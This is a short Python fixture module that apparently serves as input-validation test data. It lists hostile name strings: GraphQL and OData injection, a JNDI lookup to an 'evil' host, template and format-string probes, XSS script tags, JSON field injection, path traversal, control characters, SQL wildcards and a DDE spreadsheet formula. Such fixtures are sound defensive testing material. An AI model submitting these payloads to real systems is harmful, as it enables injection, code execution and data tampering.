"""Names that someone with bad intentions may give."""

NAMES = {
    "graphql": '"}) { id } } mutation { createDataSourceSet(dataSourceSet: {name: "pwned"}) } #',
    "interpolation": "${jndi:ldap://evil} {{7*7}} %s %(name)s {0} $name",
    "odata": "x' or PartitionKey ne '",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "json": '","status":"synced","x":"',
    "path": "../../../_simulator/reset?x=1#y",
    "control": "a\x00b\r\nc\x1b[31m\u202e",
    "wildcard": "%_[a-z]^*",
    "formula": "=cmd|' /C calc'!A0",
    "emoji": "👩\u200d👩\u200d👧 名前",
}
